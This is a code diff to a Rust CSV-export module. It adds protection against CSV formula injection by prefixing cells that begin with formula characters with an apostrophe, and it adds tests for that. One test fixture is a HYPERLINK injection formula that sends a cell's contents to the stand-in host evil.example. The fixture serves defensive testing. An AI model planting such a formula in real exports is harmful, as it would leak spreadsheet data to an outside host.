@@ -1,6 +1,14 @@
 //! `sentlog export`: streams ExportMessages from a running server into CSV (UTF-8, a
 //! header row, RFC 4180 quoting, ISO 8601 dates), so a CSM can open a list of messages
-//! in a spreadsheet. Memory stays flat: one message at a time from the stream.
+//! in a spreadsheet. Memory stays flat: one message at a time from the stream. The
+//! console's CSV download writes the same records.
+//!
+//! CSV formula injection: a spreadsheet runs a cell that starts with `=`, `+`, `-` or
+//! `@` as a formula (tab and carriage return lead there too), and guest names and
+//! campaign ids come from outside. Every such cell is written with a leading `'`, as
+//! OWASP's CSV-injection guidance says, so it opens as text. That includes E.164
+//! phones: written bare, `+33612345678` opens as the number 33612345678, losing its
+//! `+`; written `'+33612345678`, it stays text with every digit and the `+`.
 use std::io::Write;
 
 use chrono::DateTime;
@@ -50,10 +58,18 @@ fn time(t: &Option<prost_types::Timestamp>) -> String {
         .unwrap_or_default()
 }
 
-/// One CSV record of a message, in HEADER's order.
+/// A cell a spreadsheet opens as text, never as a formula (see the module doc).
+pub fn neutralise(cell: String) -> String {
+    match cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        true => format!("'{cell}"),
+        false => cell,
+    }
+}
+
+/// One CSV record of a message, in HEADER's order, every cell neutralised.
 pub fn record(m: &proto::Message) -> Vec<String> {
     let status = MessageStatus::from_code(m.status);
-    vec![
+    let cells = vec![
         m.id.clone(),
         m.hotel_id.clone(),
         m.external_id.clone(),
@@ -86,7 +102,8 @@ pub fn record(m: &proto::Message) -> Vec<String> {
         time(&m.read_at),
         time(&m.failed_at),
         m.pms_reservation_id.clone(),
-    ]
+    ];
+    cells.into_iter().map(neutralise).collect()
 }
 
 fn authed<T>(message: T, token: Option<&str>) -> anyhow::Result<Request<T>> {
@@ -146,4 +163,41 @@ pub async fn export(
     csv.flush()?;
     bar.finish_and_clear();
     Ok(rows)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    #[test]
+    fn formula_starters_open_as_text() {
+        for (given, written) in [
+            (
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+            ),
+            ("@SUM(1+1)", "'@SUM(1+1)"),
+            ("+33612345678", "'+33612345678"),
+            ("-1", "'-1"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("Camille Martin", "Camille Martin"),
+            ("2026-12-24", "2026-12-24"),
+            ("", ""),
+        ] {
+            assert_eq!(neutralise(given.to_string()), written);
+        }
+    }
+
+    proptest! {
+        #[test]
+        fn no_cell_starts_a_formula(cell in "\\PC{0,20}") {
+            let out = neutralise(cell.clone());
+            prop_assert!(!out.starts_with(['=', '+', '-', '@', '\t', '\r']));
+            // Nothing is lost: the cell is the same text, marked or not.
+            let marked = format!("'{}", cell);
+            prop_assert!(out == cell || out == marked);
+        }
+    }
 }
